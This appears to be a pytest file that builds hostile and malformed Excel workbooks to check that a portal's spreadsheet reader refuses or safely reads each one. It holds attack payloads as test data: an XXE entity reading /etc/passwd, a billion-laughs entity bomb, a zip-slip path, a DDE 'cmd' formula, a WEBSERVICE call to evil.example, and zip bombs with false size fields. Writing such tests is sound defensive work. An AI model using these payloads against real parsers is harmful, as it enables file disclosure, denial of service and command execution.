"""The structural half of the hostile and broken workbooks (X01–X26): each with the answer it gets, as docs/workbooks.md
says it. Each is made here byte by byte, looked over and read as the portal does."""

import io
import re
import struct
import zipfile

import pytest
import xlsxwriter

from portal import sheets
from portal.sheets import BadSheet
from tests.portal.test_sheets import with_member, xlsx

WORKBOOK = "xl/workbook.xml"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">{more}]>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{}]>'.format(
    "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
)


def answer(content: bytes, name: str, folder) -> str | list[list[str]]:
    """The sentence that refuses a file, or its rows."""
    path = folder / "book"
    path.write_bytes(content)
    try:
        sheets.look_over(io.BytesIO(content), name)
        return sheets.read(str(path)).rows
    except BadSheet as problem:
        return str(problem)


def rewritten(changes: dict, base: bytes | None = None, drop: str = "") -> bytes:
    """A workbook of ours with some parts changed: `changes` gives what becomes of a part's text."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base or xlsx())) as source,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for member in source.infolist():
            text = source.read(member).decode()
            if member.filename != drop:
                archive.writestr(member.filename, changes.get(member.filename, str)(text))
    return stream.getvalue()


def headed(doctype: str, cell: str):
    """The text of a part with a declaration of entities, and one of them in place of its first text."""

    def changed(text: str) -> str:
        return doctype + re.sub(r"<t>[^<]*</t>", f"<t>{cell}</t>", re.sub(r"^<\?xml.*?\?>", "", text), count=1)

    return changed


def many_rows(count: int) -> str:
    return "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(3, count))


def old_format() -> bytes:
    """The first eight bytes of the format before 2007, and nothing that makes a workbook of it."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)


def lying_size() -> bytes:
    """A part of 6 MB that both directories of the archive call 100 bytes long."""
    real = b"<sst>" + b" " * 6_000_000 + b"</sst>"
    content = with_member("xl/liar.xml", real)
    size = struct.pack("<I", len(real))
    assert content.count(size) >= 2
    return content.replace(size, struct.pack("<I", 100))


def lying_strings() -> bytes:
    """The same of a part that is read: the texts of the cells."""
    texts = b"<sst>" + b"<si><t>a</t></si>" * 3_000_000 + b"</sst>"
    return rewritten({STRINGS: lambda _text: texts.decode()}).replace(
        struct.pack("<I", len(texts)), struct.pack("<I", 100)
    )


def two_workbooks() -> bytes:
    with pytest.warns(UserWarning, match="Duplicate"):
        return with_member(WORKBOOK, b"<workbook/>")


def seventy_thousand() -> bytes:
    """More than an archive without its 64-bit directory can name."""
    stream = io.BytesIO(xlsx())
    with zipfile.ZipFile(stream, "a") as archive:
        for n in range(70_000):
            archive.writestr(f"m{n}", b"")
    return stream.getvalue()


def only_a_chart() -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True})
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": ["Chart1", 0, 0, 1, 0]})
    book.add_chartsheet().set_chart(chart)
    book.close()
    return stream.getvalue()


def hidden_rows() -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True})
    page = book.add_worksheet()
    for n, cell in enumerate("abc"):
        page.write(n, 0, cell)
    page.set_row(1, None, None, {"hidden": True})
    book.close()
    return stream.getvalue()


def formulas() -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True})
    page = book.add_worksheet()
    page.write_formula(0, 0, "=cmd|' /C calc'!A0", None, "7")
    page.write_formula(1, 0, '=WEBSERVICE("http://evil.example")', None, "x")
    book.close()
    return stream.getvalue()


STYLES = "".join(f'<xf numFmtId="{n * 7919 % 65521}" fontId="0" fillId="0" borderId="0"/>' for n in range(64_000))

CASES = {
    "X01 no archive": ("x.xlsx", lambda: b"%PDF-1.7", "只改扩展名不行"),
    "X02 commas": ("x.xlsx", lambda: b"a,b\n1,2", "只改扩展名不行"),
    "X03 the old format under the new name": ("x.xlsx", old_format, "读不出来"),
    "X04 macros": ("x.xlsx", lambda: with_member("xl/vbaProject.bin", b"x"), "有宏"),
    "X05 a password": (
        "x.xlsx", lambda: old_format() + "EncryptedPackage".encode("utf-16-le"), "密码",
    ),
    "X06 texts that open to 512 MB": ("x.xlsx", lambda: with_member("xl/s2.xml", b"\0" * 120_000_000), "展开后太大"),
    "X07 a million rows of nothing": (
        "x.xlsx", lambda: rewritten({SHEET: lambda t: t.replace("</sheetData>", many_rows(300_000) + "</sheetData>")}),
        [["a", "b"]],
    ),
    "X08 a lie about the area": (
        "x.xlsx", lambda: rewritten({SHEET: lambda t: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', t)}),
        [["a", "b"]],
    ),
    "X09 a row and a column beyond Excel": (
        "x.xlsx", lambda: rewritten({SHEET: lambda t: t.replace(
            "</sheetData>", '<row r="99999999"><c r="XFE99999999" t="str"><v>y</v></c></row></sheetData>')}),
        "读不出来|最多导入",
    ),
    "X10 entities of entities": ("x.xlsx", lambda: rewritten({STRINGS: headed(LAUGHS, "&e11;")}), "读不出来"),
    "X11 an entity that is a file": (
        "x.xlsx", lambda: rewritten({STRINGS: headed(XXE.format(more=""), "&e;")}), "读不出来",
    ),
    "X11 a declaration elsewhere": (
        "x.xlsx", lambda: rewritten({STRINGS: headed(
            '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">', "a")}), [["a", "b"]],
    ),
    "X12 links to other files": ("x.xlsx", lambda: with_member("xl/externalLinks/externalLink1.xml", b"x"), "外部链接"),
    "X13 a command instead of a formula": ("x.xlsx", formulas, [["7"], ["x"]]),
    "X13 an object": ("x.xlsx", lambda: with_member("xl/embeddings/oleObject1.bin", b"x"), "嵌入"),
    "X14 a name that climbs": ("x.xlsx", lambda: with_member("../../etc/passwd", b"x"), "不是 Excel"),
    "X15 the same part twice": ("x.xlsx", two_workbooks, "内部结构"),
    "X16 a size that lies": ("x.xlsx", lying_size, [["a", "b"]]),
    "X16 a size that lies of what is read": ("x.xlsx", lying_strings, "读不出来|展开后太大"),
    "X17 a workbook in a workbook": ("x.xlsx", lambda: with_member("xl/embeddings/a.xlsx", xlsx()), "嵌入"),
    "X18 seventy thousand parts": ("x.xlsx", seventy_thousand, "内部结构"),
    "X19 cut off": ("x.xlsx", lambda: xlsx()[:-30], "没有传完整"),
    "X20 a hidden sheet": ("x.xlsx", lambda: xlsx([("x",)], sheet="甲", hidden=["乙"]), [["x"]]),
    "X20 a very hidden sheet": (
        "x.xlsx", lambda: rewritten(
            {WORKBOOK: lambda t: t.replace('state="hidden"', 'state="veryHidden"')}, xlsx([("x",)], hidden=["乙"])),
        [["x"]],
    ),
    "X20 hidden rows": ("x.xlsx", hidden_rows, [["a"], ["b"], ["c"]]),
    "X22 empty columns at the end": (
        "x.xlsx", lambda: xlsx([("a", "b", *[""] * 256)]), [["a", "b"]],
    ),
    "X23 a sheet with nothing but a chart": ("x.xlsx", only_a_chart, "没有看得见的工作表"),
    "X24 64,000 styles": (
        "x.xlsx", lambda: rewritten({"xl/styles.xml": lambda t: re.sub(r"<cellXfs.*?</cellXfs>", f"<cellXfs>{STYLES}</cellXfs>", t, flags=re.S)}),
        [["a", "b"]],
    ),
    "X25 no list of what is what": ("x.xlsx", lambda: rewritten({}, drop="[Content_Types].xml"), [["a", "b"]]),
    "X25 the workbook's part is missing": ("x.xlsx", lambda: rewritten({}, drop=WORKBOOK), "不是 Excel"),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_each_hostile_or_broken_workbook_has_its_answer(name, tmp_path):
    label, made, expected = CASES[name]
    found = answer(made(), label, tmp_path)
    if isinstance(expected, str):
        assert isinstance(found, str), found[:3]
        assert re.search(expected, found), found
    else:
        assert found == expected
